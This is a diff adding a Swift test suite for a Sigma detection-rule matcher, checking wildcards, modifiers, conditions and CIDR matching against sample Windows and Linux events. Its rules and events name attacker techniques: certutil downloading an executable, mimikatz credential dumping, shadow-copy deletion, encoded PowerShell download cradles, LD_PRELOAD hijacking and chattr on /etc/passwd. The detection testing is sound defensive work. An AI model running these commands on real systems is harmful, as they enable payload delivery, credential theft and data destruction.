@@ -1,0 +1,205 @@
+import Sigma
+import Testing
+import VigilCore
+
+@Suite struct SigmaMatchingTests {
+    @Test func allOfSelectionsWithListsMatchesOnlyTheDownload() throws {
+        let set = try compile(processRule("""
+            selection_img:
+                - Image|endswith: '\\certutil.exe'
+                - OriginalFileName: 'CertUtil.exe'
+            selection_flags:
+                CommandLine|contains:
+                    - 'urlcache '
+                    - 'verifyctl '
+            selection_http:
+                CommandLine|contains: 'http'
+            """, condition: "all of selection_*"))
+        let download = processEvent(image: "C:\\Windows\\System32\\CERTUTIL.EXE", command: "certutil -URLcache -split -f http://x/a.exe a.exe")
+        let verify = processEvent(image: "C:\\Windows\\System32\\certutil.exe", command: "certutil -verify cert.cer")
+        let noHTTP = processEvent(image: "C:\\Windows\\System32\\certutil.exe", command: "certutil -urlcache * delete")
+        #expect(set.matches(download).count == 1)
+        #expect(set.matches(verify).isEmpty)
+        #expect(set.matches(noHTTP).isEmpty)
+    }
+
+    @Test func securityLog4688IsProcessCreationToo() throws {
+        let set = try compile(processRule("selection:\n    Image|endswith: '\\whoami.exe'"))
+        #expect(set.matches(processEvent(image: "C:\\Windows\\System32\\whoami.exe", command: "whoami /all", code: "4688")).count == 1)
+        var logon = processEvent(image: "C:\\Windows\\System32\\whoami.exe", command: "whoami", code: "4624")
+        logon.name = "An account was successfully logged on"
+        #expect(set.matches(logon).isEmpty, "a logon is not a process creation")
+    }
+
+    @Test func wildcardsAndEscapes() throws {
+        let set = try compile(processRule("""
+            selection:
+                Image: 'C:\\Users\\\\*\\\\AppData\\\\*.exe'
+                CommandLine: 'run?.bat \\*literal'
+            """))
+        #expect(set.matches(processEvent(image: "c:\\users\\bob\\appdata\\local\\x.exe", command: "RUN1.bat *literal")).count == 1)
+        #expect(set.matches(processEvent(image: "c:\\users\\bob\\appdata\\local\\x.exe", command: "run12.bat *literal")).isEmpty, "? is one character")
+        #expect(set.matches(processEvent(image: "c:\\users\\bob\\appdata\\local\\x.exe", command: "run1.bat xliteral")).isEmpty, "\\* is a literal star")
+        #expect(set.matches(processEvent(image: "c:\\program files\\x.exe", command: "run1.bat *literal")).isEmpty)
+    }
+
+    @Test func notFilterParenthesesAndPrecedence() throws {
+        // `a or b and c` is `a or (b and c)`.
+        let set = try compile(processRule("""
+            a:
+                CommandLine|contains: 'alpha'
+            b:
+                CommandLine|contains: 'beta'
+            c:
+                CommandLine|contains: 'gamma'
+            filter:
+                ParentImage|endswith: '\\trusted.exe'
+            """, condition: "(a or b and c) and not filter"))
+        func m(_ cmd: String, parent: String = "C:\\x\\explorer.exe") -> Bool {
+            !set.matches(processEvent(image: "C:\\x.exe", command: cmd, parent: parent)).isEmpty
+        }
+        #expect(m("alpha"))
+        #expect(!m("beta"))
+        #expect(m("beta gamma"))
+        #expect(!m("alpha", parent: "C:\\Tools\\Trusted.exe"))
+    }
+
+    @Test func oneOfThemAndConditionLists() throws {
+        let set = try compile(processRule("""
+            sel_a:
+                CommandLine|contains: 'mimikatz'
+            sel_b:
+                CommandLine|contains: 'sekurlsa'
+            """, condition: "1 of them"))
+        #expect(set.matches(processEvent(image: "C:\\m.exe", command: "sekurlsa::logonpasswords")).count == 1)
+        let list = try compile("""
+            title: Two conditions
+            id: 22222222-0000-0000-0000-000000000002
+            level: high
+            logsource: {product: windows, category: process_creation}
+            detection:
+                a: {CommandLine|contains: 'one'}
+                b: {CommandLine|contains: 'two'}
+                condition:
+                    - a
+                    - b
+            """)
+        #expect(list.matches(processEvent(image: "C:\\m.exe", command: "two")).count == 1)
+    }
+
+    @Test func modifiers() throws {
+        let set = try compile(processRule("""
+            sel_all:
+                CommandLine|contains|all: ['-nop', 'hidden']
+            sel_windash:
+                CommandLine|windash|contains: ' -encodedcommand '
+            sel_re:
+                CommandLine|re: 'vssadmin(\\.exe)? delete shadows'
+            sel_b64:
+                CommandLine|base64offset|contains: 'IEX (New-Object'
+            sel_start:
+                CommandLine|startswith: 'rundll32 javascript:'
+            sel_cased:
+                CommandLine|cased: 'EXACT'
+            """, condition: "1 of sel_*"))
+        func m(_ cmd: String) -> Bool { !set.matches(processEvent(image: "C:\\p.exe", command: cmd)).isEmpty }
+        #expect(m("powershell -NoP -w hidden"))
+        #expect(!m("powershell -nop"), "|all needs every value")
+        #expect(m("powershell /EncodedCommand abc"), "windash accepts /")
+        #expect(m("powershell \u{2013}encodedcommand abc"), "windash accepts an en dash")
+        #expect(m("vssadmin.exe delete shadows /all"))
+        #expect(!m("VSSADMIN delete shadows"), "re is case-sensitive without |i")
+        // "IEX (New-Object" inside a longer base64 text at each of the three offsets.
+        for prefix in ["", "a", "ab"] {
+            #expect(m("powershell -e " + base64(prefix + "IEX (New-Object Net.WebClient)")), "offset \(prefix.count)")
+        }
+        #expect(m("RUNDLL32 JavaScript:\"\\..\\mshtml\""))
+        #expect(m("EXACT"))
+        #expect(!m("exact"), "|cased")
+    }
+
+    @Test func nullExistsComparisonAndCIDR() throws {
+        let set = try compile("""
+            title: Network
+            id: 33333333-0000-0000-0000-000000000003
+            level: low
+            logsource: {product: windows, category: network_connection}
+            detection:
+                sel:
+                    DestinationIp|cidr: ['10.0.0.0/8', 'fc00::/7']
+                    DestinationPort|gte: 4444
+                    DestinationHostname: null
+                    Image|exists: true
+                condition: sel
+            """)
+        func net(_ ip: String, _ port: Int, host: String? = nil) -> Event {
+            var e = Event(id: "n", time: 0, kind: .networkFlow, name: "Sysmon: Network connection detected", eventCode: "3", device: "ws-01")
+            e.destinationIP = ip
+            e.destinationPort = port
+            e.destinationHost = host
+            e.properties = ["logsourcetypename": "Microsoft Windows Sysmon", "Process Path": "C:\\a.exe"]
+            return e
+        }
+        #expect(set.matches(net("10.1.2.3", 4444)).count == 1)
+        #expect(set.matches(net("fd00::1", 5555)).count == 1)
+        #expect(set.matches(net("11.1.2.3", 4444)).isEmpty)
+        #expect(set.matches(net("10.1.2.3", 443)).isEmpty)
+        #expect(set.matches(net("10.1.2.3", 4444, host: "c2.example")).isEmpty, "null means absent")
+    }
+
+    @Test func keywordsSearchTheWholeEvent() throws {
+        let set = try compile("""
+            title: Keywords
+            id: 44444444-0000-0000-0000-000000000004
+            level: medium
+            logsource: {product: linux, service: auditd}
+            detection:
+                keywords:
+                    - 'LD_PRELOAD='
+                    - '/etc/ld.so.preload'
+                condition: keywords
+            """)
+        var e = Event(id: "a", time: 0, kind: .process, name: "EXECVE", user: "bob", device: "srv-1", command: "echo x > /etc/ld.so.preload")
+        e.properties = ["logsourcetypename": "Linux OS", "Audit Operation": "EXECVE"]
+        #expect(set.matches(e).count == 1)
+        e.command = "ls -l"
+        #expect(set.matches(e).isEmpty)
+    }
+
+    @Test func auditdArgumentsAndLinuxProcessCreation() throws {
+        let set = try compile("""
+            title: Linux
+            id: 55555555-0000-0000-0000-000000000005
+            level: high
+            logsource: {product: linux, service: auditd}
+            detection:
+                sel:
+                    type: EXECVE
+                    a0: chattr
+                    a1|contains: '-i'
+                condition: sel
+            """)
+        var e = Event(id: "a", time: 0, kind: .process, name: "EXECVE", user: "root", device: "srv-1", command: "chattr -i /etc/passwd")
+        e.properties = ["logsourcetypename": "Linux OS", "Audit Operation": "EXECVE"]
+        #expect(set.matches(e).count == 1)
+        e.command = "chattr +i /etc/passwd"
+        #expect(set.matches(e).isEmpty)
+    }
+}
+
+/// Plain base64 of UTF-8 text (test oracle, independent of the module's encoder's offset logic).
+func base64(_ text: String) -> String {
+    let table = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
+    let bytes = Array(text.utf8)
+    var out = ""
+    var i = 0
+    while i < bytes.count {
+        let b0 = Int(bytes[i]), b1 = i + 1 < bytes.count ? Int(bytes[i + 1]) : 0, b2 = i + 2 < bytes.count ? Int(bytes[i + 2]) : 0
+        out.append(table[b0 >> 2])
+        out.append(table[(b0 & 3) << 4 | b1 >> 4])
+        out.append(i + 1 < bytes.count ? table[(b1 & 15) << 2 | b2 >> 6] : "=")
+        out.append(i + 2 < bytes.count ? table[b2 & 63] : "=")
+        i += 3
+    }
+    return out
+}
